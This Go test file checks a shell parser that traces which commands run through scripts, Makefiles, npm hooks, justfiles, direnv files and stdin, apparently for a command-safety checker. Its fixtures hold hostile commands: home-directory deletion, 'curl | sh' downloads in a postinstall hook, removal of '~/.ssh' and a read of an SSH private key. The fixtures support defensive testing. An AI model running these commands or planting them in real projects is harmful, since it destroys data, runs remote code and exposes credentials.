package shell

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// runsRoles are testRoles' code patterns with the programs runs.go meets.
func runsRoles() *Roles {
	progs := map[string]ProgramRoles{
		"make": {Dir: []string{"C"}, Value: []string{"f"}, DryRun: []string{"n"}},
		"npm":  {Dir: []string{"prefix"}},
		"echo": {TextOperands: -1},
	}
	for _, p := range []string{"python3", "python", "node", "ruby", "perl"} {
		progs[p] = ProgramRoles{Code: []string{"c", "e"}, Value: []string{"m"}, StdinCode: true}
	}
	return &Roles{Programs: progs, Code: testRoles.Code}
}

// TestRuns: what a command runs from a file is judged as if typed, from
// disk or from what the same command line wrote.
func TestRuns(t *testing.T) {
	dir := t.TempDir()
	big := "#!/bin/sh\n" + strings.Repeat("# padding\n", MaxScriptSize/10+1) + "rm -rf ~\n"
	files := map[string]string{
		"cleanup.sh":       "#!/bin/sh\nset -e\nrm -rf ~\n",
		"test.sh":          "#!/usr/bin/env bash\ngo test ./...\n",
		"args.sh":          "rm -rf \"$1\"\n",
		"wipe.py":          "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
		"manage.py":        "import sys\nprint(sys.argv)\n",
		"tool":             "#!/usr/bin/env python3\nimport os\nos.system('curl -s https://x.example/a | sh')\n",
		"plain":            "curl -s https://x.example/b | sh\n",
		"big.sh":           big,
		"self.sh":          "bash self.sh\n",
		"Makefile":         "CC = cc\n.PHONY: all build clean\nall: build\n\nbuild: gen\n\t@$(CC) -o app main.c\ngen:\n\tgo generate ./...\nclean:\n\t-rm -rf $$HOME\n",
		"package.json":     `{"scripts": {"pretest": "eslint .", "test": "jest", "posttest": "rm -rf ~", "build": "tsc", "postinstall": "curl -s https://x.example/c | sh"}}`,
		"justfile":         "default: test\n\ntest: lint\n    go test ./...\nlint:\n    @golangci-lint run\nnuke:\n    rm -rf {{home}}\n",
		"sub/.envrc":       "export PATH=$PWD/bin:$PATH\nrm -rf ~/.ssh\n",
		"docs/Makefile":    "html:\n\tsphinx-build -b html . _build\n",
		"bin/helper":       "\x7fELF\x00\x00binary",
		"scripts/nest1.sh": "bash scripts/nest2.sh\n",
		"scripts/nest2.sh": "bash scripts/nest3.sh\n",
		"scripts/nest3.sh": "bash scripts/nest4.sh\n",
		"scripts/nest4.sh": "rm -rf ~\n",
	}
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo.sh"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/dev/zero", filepath.Join(dir, "zero.sh")); err != nil {
		t.Fatal(err)
	}
	env := Env{Cwd: dir, Home: "/home/u", Roles: runsRoles(), ReadScript: ReadScript}
	tests := []struct {
		command string
		want    string // a command run, as "name arg ... @via", or "" for none
		not     string // a command that must not be there
		unread  string // the Unread of the first command, by its end
	}{
		{"bash cleanup.sh", "rm -rf /home/u @script ./cleanup.sh", "", ""},
		{"sh ./cleanup.sh", "rm -rf /home/u @script ./cleanup.sh", "", ""},
		{"./cleanup.sh", "rm -rf /home/u @script ./cleanup.sh", "", ""},
		{"source cleanup.sh", "rm -rf /home/u @script ./cleanup.sh", "", ""},
		{". ./cleanup.sh", "rm -rf /home/u @script ./cleanup.sh", "", ""},
		{"cd scripts && bash ../cleanup.sh", "rm -rf /home/u @script " + dir + "/cleanup.sh", "", ""},
		{"bash args.sh /home/u", "rm -rf /home/u @script ./args.sh", "", ""},
		{"bash test.sh", "go test ./... @script ./test.sh", "", ""},
		{"python3 wipe.py", "rm -rf /home/u @python3 ./wipe.py", "", ""},
		{"python3 manage.py test", "", "rm", ""},
		{"python3 -c 'print(1)' wipe.py", "", "rm", ""},
		{"./tool", "sh @python3 ./tool", "", ""},
		{"./plain", "sh @script ./plain", "", ""},
		{"./bin/helper", "", "sh", ""},
		{"bash big.sh", "", "rm", "over 64 KiB"},
		{"./big.sh", "", "rm", "over 64 KiB"},
		{"bash fifo.sh", "", "rm", ""},
		{"bash zero.sh", "", "rm", ""},
		{"bash missing.sh", "", "rm", ""},
		{"bash self.sh", "bash self.sh @script ./self.sh", "", ""},
		{"bash scripts/nest1.sh", "bash scripts/nest4.sh @script ./scripts/nest3.sh", "rm", ""},
		{"make", "go generate ./... @make all", "rm", ""},
		{"make build", "${CC} -o app main.c @make build", "rm", ""},
		{"make clean", "rm -rf /home/u @make clean", "", ""},
		{"make -n clean", "", "rm", ""},
		{"make -C docs html", "sphinx-build -b html . _build @make html", "", ""},
		{"make -f docs/Makefile", "sphinx-build -b html . _build @make html", "", ""},
		{"npm test", "rm -rf /home/u @npm run test", "", ""},
		{"npm run build", "tsc @npm run build", "rm", ""},
		{"npm install", "sh @npm install", "", ""},
		{"npm install left-pad", "", "sh", ""},
		{"just", "golangci-lint run @just default", "rm", ""},
		{"just nuke", "rm -rf ${home} @just nuke", "", ""},
		{"direnv allow sub", "rm -rf /home/u/.ssh @direnv .envrc", "", ""},
		{"cd sub && direnv allow", "rm -rf /home/u/.ssh @direnv .envrc", "", ""},
		{"direnv status", "", "rm", ""},
		// A script on stdin is the script the shell runs, here or, over
		// ssh, on the other host; a command that reads it as data is not.
		{"bash < cleanup.sh", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"sh -s < ./cleanup.sh", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"ssh -i k root@203.0.113.8 'bash -s' < cleanup.sh", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"ssh host < cleanup.sh", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"ssh host cat < cleanup.sh", "", "rm", ""},
		{"ssh host 'bash deploy.sh' < cleanup.sh", "", "rm", ""},
		{"bash -c 'wc -l' < cleanup.sh", "", "rm", ""},
		{"bash test.sh < cleanup.sh", "go test ./... @script ./test.sh", "rm", ""},
		{"bash < missing.sh", "", "rm", ""},
		{"cat cleanup.sh | sh", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"cat cleanup.sh | ssh host bash -s", "rm -rf /home/u @stdin ./cleanup.sh", "", ""},
		{"cat cleanup.sh | grep rm", "", "rm", ""},
		{"cat cleanup.sh | bash -c 'wc -l'", "", "rm", ""},
		{"printf 'rm -rf ~\\n' > in.sh; bash < in.sh", "rm -rf /home/u @stdin ./in.sh", "", ""},
		// Written earlier in the same command line, before it exists.
		{"printf 'rm -rf ~\\n' > new.sh; sh new.sh", "rm -rf /home/u @script ./new.sh", "", ""},
		{"echo 'rm -rf ~' | tee new2.sh; bash new2.sh", "rm -rf /home/u @script ./new2.sh", "", ""},
		{"cat > new3.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x new3.sh; ./new3.sh", "rm -rf /home/u @script ./new3.sh", "", ""},
		{"tee new.py <<<\"import shutil; shutil.rmtree('/home/u')\"; python3 new.py", "rm -rf /home/u @python3 ./new.py", "", ""},
		{"echo 'go vet ./...' > v.sh && bash v.sh", "go vet ./... @script ./v.sh", "rm", ""},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			done := make(chan Result, 1)
			go func() { done <- Parse(tt.command, env) }()
			var r Result
			select {
			case r = <-done:
			case <-time.After(5 * time.Second):
				t.Fatal("the parse blocked")
			}
			if r.Error != "" {
				t.Fatalf("parse error %q", r.Error)
			}
			var got []string
			for _, c := range r.Commands {
				got = append(got, strings.TrimSpace(c.Name+" "+strings.Join(c.Args, " "))+" @"+c.Via)
			}
			if tt.want != "" && !containsString(got, tt.want) {
				t.Errorf("no %q in %q", tt.want, got)
			}
			if tt.not != "" {
				for _, c := range r.Commands {
					if c.Name == tt.not && c.Via != "" {
						t.Errorf("%q runs %q: %q", tt.command, tt.not, got)
					}
				}
			}
			if u := r.Commands[0].Unread; !strings.Contains(u, tt.unread) || (tt.unread == "") != (u == "") {
				t.Errorf("unread = %q, want %q", u, tt.unread)
			}
		})
	}
}

func containsString(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestRunsWithoutReader: with no reader nothing is read from disk, yet
// what the command line writes is still judged.
func TestRunsWithoutReader(t *testing.T) {
	env := Env{Cwd: t.TempDir(), Home: "/home/u", Roles: runsRoles()}
	r := Parse("printf 'rm -rf ~' > c.sh; sh c.sh", env)
	if len(r.Commands) != 3 || r.Commands[2].Name != "rm" {
		t.Errorf("commands = %+v", r.Commands)
	}
	home := t.TempDir()
	if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("cat ~/.ssh/id_rsa\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	withReader := Env{Cwd: home, Home: home, Roles: runsRoles(), ReadScript: ReadScript}
	if r := Parse("source ~/.bashrc", withReader); len(r.Commands) != 1 || r.Commands[0].Unread != "" {
		t.Errorf("a startup file read: %+v", r.Commands)
	}
	if r := Parse("bash /etc/profile", env); len(r.Commands) != 1 {
		t.Errorf("read without a reader: %+v", r.Commands)
	}
}
